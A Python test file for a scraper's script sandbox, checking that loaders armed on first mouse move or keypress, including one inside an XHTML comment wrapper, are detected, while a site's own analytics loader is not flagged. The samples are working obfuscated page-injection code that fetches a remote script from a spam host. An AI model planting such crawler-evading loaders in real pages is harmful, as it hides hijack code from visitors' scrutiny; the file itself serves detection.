"""Code a page's scripts arm for a person and never run for a crawler: a handler of the whole page
that acts when the mouse first moves or a key is pressed (v45 B1, B2), and the XHTML comment
wrapper (`<!--//--><![CDATA[// ><!--`) that a browser reads as one line comment, the code after it
running. The code is written afresh in the misses' form, not copied from the spent pages."""
from __future__ import annotations

from scraper.clean.sandbox import run_scripts
from tests.clean.test_gestures import ARTICLE, cleaned

SPAM_HOST = "q7-tiaozhuan.top"
URL = "https://www.example.gov.cn/art/2025/7/1/art_1.html"
LOADER = ("document.getElementsByTagName('body')[0].onmousemove=function(){if(document.getElementById('mk1'))return;"
          "var s=document.createElement('script');s.async=true;s.src='http://'+'" + SPAM_HOST[:4] + "'+'"
          + SPAM_HOST[4:] + "/r.js';var f=document.getElementsByTagName('script')[0];f.parentNode.insertBefore(s,f);"
          "var m=document.createElement('span');m.id='mk1';document.body.appendChild(m)};")
WRAPPED = "<!--//--><![CDATA[// ><!--\nvar _q=_q||[];_q.push(['_trackPageview']);\n" + LOADER + "\n//--><!]]>"


def gesture_loads(code: str) -> set[tuple[str, str, bool]]:
    run = run_scripts([(0, code)], URL, "", {"ids": {}, "tags": {"body": 1, "script": 1, "div": 1}})
    return {(e.on, e.value, e.wide) for effects in run.effects.values() for e in effects if e.kind == "load"}


def test_a_script_loaded_when_the_mouse_first_moves_over_the_page_is_seen_with_the_move():
    assert gesture_loads(LOADER) == {("mousemove", f"http://{SPAM_HOST}/r.js", True)}


def test_the_same_loader_inside_the_xhtml_comment_wrapper_runs():
    assert gesture_loads(WRAPPED) == {("mousemove", f"http://{SPAM_HOST}/r.js", True)}


def test_a_key_handler_of_the_page_runs_when_a_key_is_pressed_not_at_load():
    code = (f"document.addEventListener('keydown',function(){{var s=document.createElement('script');"
            f"s.src='https://{SPAM_HOST}/k.js';document.head.appendChild(s)}});")
    assert gesture_loads(code) == {("keydown", f"https://{SPAM_HOST}/k.js", True)}


def test_a_click_that_loads_the_sites_analytics_named_by_its_tag():
    head = '<script src="https://hm.baidu.com/hm.js?0a1b2c3d4e5f"></script>'
    code = ("document.addEventListener('click',function(){var s=document.createElement('script');"
            "s.src='https://hm.baidu.com/hm.js?0a1b2c3d4e5f&ev=click';document.head.appendChild(s)});"
            "document.onmousemove=function(){var i=document.createElement('script');"
            "i.src='https://'+'hm.baidu.com/hm.js?0a1b2c3d4e5f&ev=move';document.head.appendChild(i)};")
    a = cleaned(code, body=ARTICLE, head=head)
    assert not a.hijacked and not [f for f in a.findings if "hm.baidu.com" in f.evidence]
